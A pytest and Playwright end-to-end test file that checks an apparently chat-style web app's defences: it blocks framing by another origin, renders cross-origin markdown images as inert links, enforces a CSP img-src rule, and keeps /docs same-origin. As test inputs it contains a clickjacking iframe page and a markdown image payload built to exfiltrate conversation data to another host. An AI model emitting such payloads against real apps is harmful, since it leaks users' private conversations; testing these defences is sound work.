"""The browser side of the security headers: another site cannot frame the app, a report's image
from another origin is a link and loads nothing (and the CSP stops one that slips through),
and /docs renders with every request staying on the server's origin."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.test_ask import ask
from tests.runtime.server import LiveServer


class Loopback:
    """A server on another loopback port (another origin) that counts the requests it gets and
    answers each with `page`."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.page = "<!doctype html><title>other</title>"
        loopback = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                loopback.paths.append(self.path)
                body = loopback.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"


SLIP_AN_IMAGE_IN = """src => new Promise(resolve => {
  document.addEventListener("securitypolicyviolation", e => resolve(e.effectiveDirective),
                            { once: true });
  const img = document.createElement("img");
  img.src = src;
  document.body.append(img);
})"""


@pytest.fixture
def other_origin() -> Iterator[Loopback]:
    loopback = Loopback()
    loopback.thread.start()
    yield loopback
    loopback.server.shutdown()
    loopback.server.server_close()


def test_security_another_site_cannot_frame_the_app(
    page: Page, offline_server: LiveServer, other_origin: Loopback, csp_violations: list[str]
) -> None:
    other_origin.page = f'<!doctype html><iframe id="app" src="{offline_server.http}/"></iframe>'
    with page.expect_console_message(lambda m: "frame-ancestors" in m.text):
        page.goto(other_origin.url)
    page.wait_for_load_state("load")
    expect(page.frame_locator("#app").get_by_test_id("composer")).to_have_count(0)
    app_frames = [f for f in page.frames if f.url.startswith(offline_server.http)]
    assert all(f.locator("[data-testid=composer]").count() == 0 for f in app_frames)
    assert any("frame-ancestors" in v for v in csp_violations), csp_violations
    csp_violations.clear()  # provoked on purpose


def test_security_report_image_from_another_origin_is_a_link_and_loads_nothing(
    page: Page, scripted_server: LiveServer, other_origin: Loopback, csp_violations: list[str]
) -> None:
    leak = f"{other_origin.url}/leak?conversation=secret"
    page.goto(scripted_server.http)
    ask(page, f"Price? ![x]({leak})")
    report = page.get_by_test_id("answer").last.get_by_test_id("markdown")
    link = report.get_by_test_id("external-image")
    expect(link).to_have_attribute("href", leak)
    expect(link).to_contain_text("x")
    assert report.locator("img").count() == 0
    page.wait_for_load_state("networkidle")
    assert other_origin.paths == []

    # Defence in depth: an <img> that slipped past the renderer is stopped by img-src 'self'.
    with page.expect_console_message(lambda m: "img-src" in m.text):
        directive = page.evaluate(SLIP_AN_IMAGE_IN, f"{other_origin.url}/slipped")
    assert directive == "img-src"
    page.wait_for_load_state("networkidle")
    assert other_origin.paths == []
    csp_violations.clear()  # provoked on purpose


def test_security_docs_render_from_the_server_alone(page: Page, offline_server: LiveServer) -> None:
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(f"{offline_server.http}/docs")
    operations = page.locator(".opblock")
    expect(operations.first).to_be_visible()
    assert operations.count() >= 10
    expect(
        page.locator(".opblock-summary-path", has_text="/api/v1/conversations").first
    ).to_be_visible()
    page.wait_for_load_state("networkidle")
    foreign = [url for url in requested if not url.startswith((offline_server.http, "data:"))]
    assert not foreign, foreign
